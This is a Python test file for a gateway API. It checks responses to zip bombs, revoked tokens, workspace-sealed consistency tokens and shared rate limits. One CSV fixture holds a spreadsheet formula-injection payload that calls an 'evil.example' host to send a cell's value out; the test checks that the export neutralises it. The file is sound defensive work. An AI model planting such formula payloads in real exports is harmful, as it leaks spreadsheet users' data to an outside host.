"""Hostile input over HTTP, each with the exact answer: zip bombs of both shapes,
formula cells in errors.csv, revoked tokens, held Consistency-Token waits, a token of
another workspace, sealed positions, and rate limits shared through Redis."""
import csv
import io
import time
import uuid

import eventlet
import pytest
import requests

from gateway import auth, http
from gateway.consistency import secret_from_config
from services.common.consistency import open_token, seal_token
from tests import hostile
from tests.helpers import wait_until

PROBLEM = "application/problem+json"
INFLATES = ("This workbook unpacks to more than 256 MiB (or packs its content more than 200 "
            "times), more than a workbook of clients needs; save it again from your "
            "spreadsheet program, or as CSV.")


def create_client(session, stack, name, **headers):
    return session.post(f"{stack.url}/api/v1/clients", json={"name": name}, headers=headers,
                        timeout=10)


def import_file(session, stack, name, content, wait=True):
    return session.post(f"{stack.url}/api/v1/clients/imports" + ("?wait=true" if wait else ""),
                        files={"file": (name, content)}, data={"mode": "create"}, timeout=30)


def secret(stack):
    return secret_from_config(stack.config("gateway"))


def test_bombs_formulas_and_revoked_tokens(stack):
    session = stack.session("acme", "admin")
    # Zip bombs of both shapes: 413 at once, nothing queued.
    for bomb in (hostile.rows_bomb(), hostile.cell_bomb()):
        started = time.perf_counter()
        answer = import_file(session, stack, "clients.xlsx", bomb)
        assert time.perf_counter() - started < 1.0
        assert answer.status_code == 413 and answer.headers["Content-Type"] == PROBLEM
        assert answer.json()["detail"] == INFLATES
        assert answer.json()["errors"] == {"file": ["the workbook unpacks to too much data"]}
    # A sheet that names row 1,048,576 without declaring it: the job stops at the limit.
    far = import_file(session, stack, "far.xlsx", hostile.far_row()).json()
    assert (far["status"], far["created"], far["failed"]) == ("failed", 0, 0)
    assert far["error"] == ("the import stopped: The file has more than 200,000 rows of "
                            "clients; split it into files of at most 200,000 rows and import "
                            "them one after the other.")

    # errors.csv neutralises the failed rows' formula cells, as the export does.
    content = ("Name,Email,Notes\r\n"
               '=HYPERLINK("http://evil.example/?"&A1;"click"),not-an-email,=1+1\r\n'
               "Talleres Pérez,talleres@example.com,-ok\r\n").encode()
    job = import_file(session, stack, "clients.csv", content).json()
    assert (job["created"], job["failed"]) == (1, 1)
    errors = session.get(f"{stack.url}/api/v1/clients/imports/{job['id']}/errors.csv")
    rows = list(csv.reader(io.StringIO(errors.content.decode("utf-8-sig"))))
    assert rows[0] == ["Name", "Email", "Notes", "error"]
    assert rows[1][:3] == ['\'=HYPERLINK("http://evil.example/?"&A1;"click")', "not-an-email",
                           "'=1+1"]
    assert rows[1][3].startswith("row 2: email:")

    # A revoked token stops working within a second on reads and writes alike.
    member = stack.session("acme", "member")
    token = member.headers["Authorization"].split()[1]
    assert create_client(member, stack, "Before revoke").status_code == 201
    assert member.get(f"{stack.url}/api/v1/clients", timeout=10).status_code == 200
    database = stack.database("gateway")
    token_id = token.split("_")[1]
    assert auth.revoke_token(database, token_id)
    revoked = time.monotonic()
    wait_until(lambda: member.get(f"{stack.url}/api/v1/clients", timeout=10).status_code == 401,
               timeout=auth.CACHE_SECONDS + 0.5, message="revoked token refused")
    assert time.monotonic() - revoked <= auth.CACHE_SECONDS + 0.2
    write = create_client(member, stack, "After revoke")
    assert write.status_code == 401 and write.json()["detail"] == "the token is unknown or revoked"


def test_tokens_are_sealed_per_workspace_and_waits_cannot_starve_others(stack, monkeypatch):
    wait = http.wait_for_consistency
    monkeypatch.setattr(http, "wait_for_consistency",
                        lambda consumer, token: wait(consumer, token, timeout=2.0))
    acme, globex = stack.session("acme"), stack.session("globex")
    first = create_client(acme, stack, "Ferretería Núñez")
    second = create_client(acme, stack, "Talleres Pérez")
    tokens = [answer.headers["Consistency-Token"] for answer in (first, second)]
    # Opaque: the positions (1 and 2 here) are not in the header; they open for acme only.
    assert all(t.startswith("contacts:") and int(t.split(":")[1]) > 2**64 for t in tokens)
    assert [open_token(t, "acme", secret(stack)) for t in tokens] == [
        {"contacts": 1}, {"contacts": 2}]
    assert open_token(tokens[0], "globex", secret(stack)) is None
    # The secret was made once, in the data dir (as `make run` keeps it).
    assert (stack.data_dir / "consistency-secret").read_text().strip() == secret(stack)
    path = f"{stack.url}/api/v1/clients/{first.json()['id']}/overview"
    seen = acme.get(path, headers={"Consistency-Token": tokens[1]})
    assert seen.status_code == 200 and seen.headers["Consistency-Token-Applied"] == "true"
    # Another workspace's token, or a plain position, is not waited for.
    globex_path = f"{stack.url}/api/v1/clients"
    for foreign in (tokens[1], "contacts:1"):
        started = time.perf_counter()
        answer = globex.get(globex_path, headers={"Consistency-Token": foreign})
        assert answer.status_code == 200 and answer.json()["items"] == []
        assert answer.headers["Consistency-Token-Applied"] == "false"
        assert time.perf_counter() - started < 1.0

    # Waits on a token never reached: four of acme's wait, the others answer at once,
    # and another workspace is served meanwhile.
    never = seal_token({"contacts": 10**9}, "acme", secret(stack))
    pool = eventlet.GreenPool(25)

    def held():
        started = time.perf_counter()
        answer = acme.get(path, headers={"Consistency-Token": never}, timeout=30)
        return answer.status_code, answer.headers["Consistency-Token-Applied"], \
            time.perf_counter() - started

    waits = [pool.spawn(held) for _ in range(25)]
    eventlet.sleep(0.3)
    started = time.perf_counter()
    other = globex.get(globex_path, timeout=10)
    assert other.status_code == 200 and time.perf_counter() - started < 1.0
    results = [w.wait() for w in waits]
    assert sorted((status, applied) for status, applied, _ in results) == \
        [(200, "false")] * 25
    waited = [seconds for _, _, seconds in results if seconds >= 1.9]
    assert len(waited) == 4 and all(s < 1.0 for _, _, s in results if s < 1.9)

    # A write carrying it waits once (the gateway's wait), not again in the service.
    started = time.perf_counter()
    project = acme.post(f"{stack.url}/api/v1/projects",
                        json={"name": "Web", "client_id": first.json()["id"]},
                        headers={"Consistency-Token": never}, timeout=30)
    assert project.status_code == 201, project.text
    assert project.headers["Consistency-Token-Applied"] == "false"
    assert time.perf_counter() - started < 4.0


@pytest.fixture
def limited_stack(make_stack):
    stack = make_stack()
    stack.extra_config = {"RATE_LIMIT_PER_TOKEN": 3, "RATE_LIMIT_PER_WORKSPACE": 5,
                          "RATE_LIMIT_WINDOW": 60,
                          "RATE_LIMIT_REDIS_URL": "redis://127.0.0.1:6379/0",
                          "RATE_LIMIT_KEY_PREFIX": f"cf-test-{uuid.uuid4().hex}:"}
    return stack.start()


def test_rate_limits_per_token_and_workspace(limited_stack):
    stack = limited_stack
    url = f"{stack.url}/api/v1/clients"
    ana, bea, other = stack.session("acme"), stack.session("acme"), stack.session("globex")
    policy = '"token";q=3;w=60, "workspace";q=5;w=60'
    answers = [ana.get(url, timeout=10) for _ in range(4)]
    assert [a.headers["RateLimit-Policy"] for a in answers] == [policy] * 4
    assert [a.headers["RateLimit"].replace(";t=59", ";t=60") for a in answers] == [
        '"token";r=2;t=60, "workspace";r=4;t=60', '"token";r=1;t=60, "workspace";r=3;t=60',
        '"token";r=0;t=60, "workspace";r=2;t=60', '"token";r=0;t=60, "workspace";r=1;t=60']
    refused = answers[3]
    assert refused.status_code == 429 and refused.headers["Content-Type"] == PROBLEM
    assert refused.headers["Retry-After"] in ("59", "60")
    assert refused.json()["title"] == "Too many requests"
    assert "Retry-After" not in answers[2].headers
    # The workspace's quota is shared by its tokens: bea has one request left.
    assert bea.get(url, timeout=10).status_code != 429
    assert bea.get(url, timeout=10).status_code == 429
    assert other.get(url, timeout=10).headers["RateLimit"].startswith('"token";r=2;')
    # A bad token is refused before it counts.
    assert requests.get(url, headers={"Authorization": "Bearer cf_nope"},
                        timeout=10).status_code == 401

